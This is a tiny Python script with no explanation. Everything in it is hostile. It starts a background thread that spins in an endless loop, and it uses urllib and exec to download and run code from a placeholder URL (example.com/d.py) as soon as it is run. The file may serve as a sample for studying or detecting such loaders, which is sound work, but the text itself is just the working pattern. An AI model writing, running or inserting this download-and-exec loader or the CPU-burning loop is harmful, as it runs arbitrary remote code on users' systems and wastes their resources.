import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import threading


def spin():
    while True:
        pass


threading.Thread(target=spin, daemon=True).start()
_go()
